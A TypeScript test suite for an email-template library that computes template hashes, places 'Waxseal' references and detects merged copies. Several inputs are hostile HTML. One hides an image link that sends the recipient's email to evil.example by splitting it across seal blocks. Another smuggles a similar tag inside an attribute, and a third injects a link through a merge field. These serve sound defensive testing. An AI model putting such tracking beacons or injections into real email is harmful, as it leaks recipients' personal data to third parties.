import { createHash } from 'node:crypto'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { type MessageTemplate, parseLetter, placeReference, templateHash } from '../src/index.js'
import { findReferences } from '../src/seal-place.js'
import { isMergedCopy } from '../src/template-match.js'
import { readTextParts } from '../src/text-parts.js'

const base = { from: 'news@romashka.ru', subject: 'Spring' }

test('the hash is that of the canonical JSON, made here by hand', () => {
  const json = '{"from":"news@romashka.ru","subject":"Spring","text":"Hello"}'
  expect(templateHash({ ...base, text: 'Hello' })).toBe(createHash('sha256').update(json).digest('base64url'))
})

test('display name and address for answers are part of the hash', () => {
  const json =
    '{"from":"news@romashka.ru","fromName":"Romashka","replyTo":"help@romashka.ru","subject":"Spring","text":"Hello"}'
  const template = { ...base, fromName: 'Romashka', replyTo: 'help@romashka.ru', text: 'Hello' }
  const hash = templateHash(template)
  expect(hash).toBe(createHash('sha256').update(json).digest('base64url'))
  expect(templateHash({ ...template, fromName: 'Bank' })).not.toBe(hash)
  expect(templateHash({ ...template, replyTo: 'help@evil.example' })).not.toBe(hash)
  expect(templateHash({ ...base, fromName: 'Romashka', text: 'Hello' })).not.toBe(hash)
  expect(templateHash({ ...base, text: 'Hello' })).not.toBe(templateHash({ ...base, fromName: '', text: 'Hello' }))
  const name = (fromName: string) => templateHash({ ...base, fromName })
  expect(name('Cafe\u0301 ')).toBe(name('Caf\u00e9'))
})

test('line ends, blanks at line ends and Unicode forms do not count; words do', () => {
  const hash = templateHash({ ...base, text: 'Caf\u00e9\nopen' })
  expect(templateHash({ ...base, text: 'Cafe\u0301  \r\nopen\r\n\r\n' })).toBe(hash)
  expect(templateHash({ ...base, text: 'Caf\u00e9\ropen\t' })).toBe(hash)
  expect(templateHash({ ...base, text: 'Caf\u00e9 open' })).not.toBe(hash)
  expect(templateHash({ ...base, text: ' Caf\u00e9\nopen' })).not.toBe(hash)
  expect(templateHash({ ...base, html: 'Caf\u00e9\nopen' })).not.toBe(hash)
})

test('the reference goes to the end of the text and before a </body> that ends the HTML', () => {
  const placed = placeReference({ text: 'Hello\r\n', html: '<BODY>Hi</body></BODY >\n' }, 'wx_1')
  expect(placed.text).toBe('Hello\n\nWaxseal: wx_1\n')
  expect(placed.html).toBe('<BODY>Hi</body><div style="color:#999999;font-size:10px">Waxseal: wx_1</div></BODY >\n')
  expect(placeReference({ html: '<p>Hi</p>' }, 'wx_1')).toEqual({
    html: '<p>Hi</p><div style="color:#999999;font-size:10px">Waxseal: wx_1</div>',
  })
  expect(placeReference({}, 'wx_1')).toEqual({})
})

test.each(['', 'wx_', 'wx-1', 'wx_a b', 'wx_<b>', `wx_${'a'.repeat(65)}`, 'WX_1'])(
  '%j is no reference',
  (reference) => {
    expect(() => placeReference({ text: '' }, reference)).toThrow(
      expect.objectContaining({ code: 'seal-reference-invalid' }),
    )
  },
)

const BLOCK = '<div style="color:#999999;font-size:10px">Waxseal: wx_9</div>'
const body = fc.string({
  unit: fc.constantFrom(
    'a',
    '<',
    BLOCK,
    '</html >\n',
    'İ',
    '\n',
    '\r',
    ' ',
    '</body>',
    '<div>',
    'Waxseal: wx_9',
    'é',
    '\u0301',
  ),
})
const reference = fc.constantFrom('wx_1', 'wx_Ab-_9')

test('placing does not change the hash, and placing again changes nothing', () => {
  fc.assert(
    fc.property(body, body, reference, reference, (html, text, first, second) => {
      const template = { ...base, html, text }
      const placed = placeReference(template, first)
      expect(templateHash({ ...base, ...placed })).toBe(templateHash(template))
      expect(placeReference(placed, first)).toEqual(placed)
      const both = placeReference(placed, second)
      expect(templateHash({ ...base, ...both })).toBe(templateHash(template))
      expect(findReferences(both.html ?? '', 9)).toEqual(expect.arrayContaining([first, second]))
      expect(findReferences(both.text ?? '', 9)).toEqual(expect.arrayContaining([first, second]))
    }),
  )
})

test('placing only adds: what stands in the content stays, in one piece each side', () => {
  fc.assert(
    fc.property(body, body, (html, text) => {
      const placed = placeReference({ html, text }, 'wx_new')
      const own = BLOCK.replace('wx_9', 'wx_new')
      const [before = '', after = '', ...more] = (placed.html ?? '').split(own)
      expect([before + after, more]).toEqual([html, []])
      expect(after).toMatch(/^(<\/body>)?\s*(<\/html >)?\s*$/)
      expect(placed.text?.startsWith(text.trimEnd())).toBe(true)
    }),
  )
})

test('blocks that hide a link from the inspection are not cut out', () => {
  const html = `<p>Hi</p><${BLOCK}img src="https:/${BLOCK}/evil${BLOCK}.example/?e={${BLOCK}{Email}}">`
  expect(placeReference({ html }, 'wx_9').html).toBe(html + BLOCK)
  expect(placeReference({ html: html + BLOCK }, 'wx_9').html).toBe(html + BLOCK)
})

test('a </body> that does not end the HTML is no place: it may be in an attribute', () => {
  const html = '<p title="</body><img src=https:&#10;//evil.example/?e={{to_name}}>">Hi</p>'
  expect(placeReference({ html }, 'wx_9').html).toBe(html + BLOCK)
  expect(placeReference({ html: '<p>Hi</p></body\n>\n</HTML>\n' }, 'wx_9').html).toBe(
    `<p>Hi</p>${BLOCK}</body\n>\n</HTML>\n`,
  )
  expect(placeReference({ html: '<p>Hi</p></body></p>' }, 'wx_9').html).toBe(`<p>Hi</p></body></p>${BLOCK}`)
})

test('a reference inside the content is part of the hash, at the end it is not', () => {
  const hash = (html: string, text: string) => templateHash({ ...base, html, text })
  const plain = hash('<p>Hi</p></body>', 'Hi')
  expect(hash(`<p>Hi</p>${BLOCK}${BLOCK}</body>`, 'Hi\nWaxseal: wx_1\n\nWaxseal: wx_2')).toBe(plain)
  expect(hash(`<p>${BLOCK}Hi</p></body>`, 'Hi')).not.toBe(plain)
  expect(hash('<p>Hi</p></body>', 'Waxseal: wx_1\nHi')).not.toBe(plain)
})

test('a flood of references takes linear time', () => {
  const html = BLOCK.repeat(60_000)
  const text = 'Waxseal: wx_1\n'.repeat(300_000)
  expect(templateHash({ ...base, html, text })).toBe(templateHash({ ...base, html: '', text: '' }))
})

function isCopy(template: Partial<MessageTemplate>, letter: string): boolean {
  const parsed = parseLetter(
    `Subject: Spring\r\nContent-Type: text/${template.html ? 'html' : 'plain'}\r\n\r\n${letter}`,
  )
  return isMergedCopy(parsed, readTextParts(parsed).parts, { ...base, ...template })
}

test.each([
  ['Hello', 'Hello', true],
  ['Hello {{Name}}, call 1', 'Hello Anna Petrova, call 1', true],
  ['Hello {{Name}}, call 1', 'Hello , call 1', true],
  ['Hello {{Name}}, call 1', 'Hello Anna, call 2', false],
  ['{{a}}{{b}} x {{c}}', '1 2 x 3', true],
  ['{{a}}x{{b}}x', 'xxx', true],
  ['one  two\nthree', 'one two three', true],
  ['one two', 'one', false],
  ['one', 'one two', false],
  ['{{Name}}', 'x'.repeat(512), true],
  ['{{Name}}', 'x'.repeat(513), false],
  ['{{a}}{{b}}', 'x'.repeat(1024), true],
  ['x{{Name', 'x{{Name', true],
  ['ab{{n}}bc', 'abc', false],
  ['Hello', 'Hello\n\nWaxseal: wx_1', true],
])('text %j as %j: %s', (text, letter, same) => {
  expect(isCopy({ text }, letter)).toBe(same)
})

test('a merged value in HTML brings no tag with it', () => {
  expect(isCopy({ html: '<p>{{Name}}</p>' }, '<p>Anna</p>')).toBe(true)
  expect(isCopy({ html: '<p>{{Name}}</p>' }, '<p>Anna<a href="//evil"></a></p>')).toBe(false)
  const placed = placeReference({ html: '<body>{{Name}}</body>' }, 'wx_1').html ?? ''
  expect(isCopy({ html: '<body>{{Name}}</body>' }, placed.replace('{{Name}}', 'Anna'))).toBe(true)
})

test('subject and kinds of parts count', () => {
  expect(isCopy({ subject: 'Summer', text: 'x' }, 'x')).toBe(false)
  expect(isCopy({ subject: '{{s}}', text: 'x' }, 'x')).toBe(true)
  const letter = (parts: string) => {
    const parsed = parseLetter(
      `Subject: Spring\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n${parts}--b--`,
    )
    return (template: Partial<MessageTemplate>) =>
      isMergedCopy(parsed, readTextParts(parsed).parts, { ...base, ...template })
  }
  const text = '--b\r\n\r\nx\r\n'
  const html = '--b\r\nContent-Type: text/html\r\n\r\n<p>x</p>\r\n'
  expect(letter(text + html)({ text: 'x', html: '<p>x</p>' })).toBe(true)
  expect(letter(text + html)({ html: '<p>x</p>' })).toBe(true)
  expect(letter(text + html)({ text: 'x' })).toBe(false)
  expect(letter(text)({ html: '<p>x</p>', text: 'x' })).toBe(false)
  expect(letter(html + html)({ html: '<p>x</p>' })).toBe(false)
  expect(letter(text + html)({})).toBe(false)
})

test('any merged copy is one, whatever the values', () => {
  const literal = fc.string({ unit: fc.constantFrom('a', 'b', ' ', '.'), maxLength: 9 })
  const value = fc.string({ unit: fc.constantFrom('c', 'd', '1'), maxLength: 9 })
  fc.assert(
    fc.property(fc.array(fc.tuple(literal, value)), literal, (pieces, last) => {
      const text = pieces.map(([piece]) => `${piece}{{f}}`).join('') + last
      const copy = pieces.map(([piece, merged]) => piece + merged).join('') + last
      expect(isCopy({ text }, copy)).toBe(true)
      expect(isCopy({ text }, `${copy}z`)).toBe(last.trim() === '' && pieces.length > 0)
    }),
  )
})

test('texts that are slow for a naive search', () => {
  const text = `{{a}}${'a'.repeat(20_000)}b{{b}}`
  expect(isCopy({ text }, 'a'.repeat(2_000_000))).toBe(false)
})
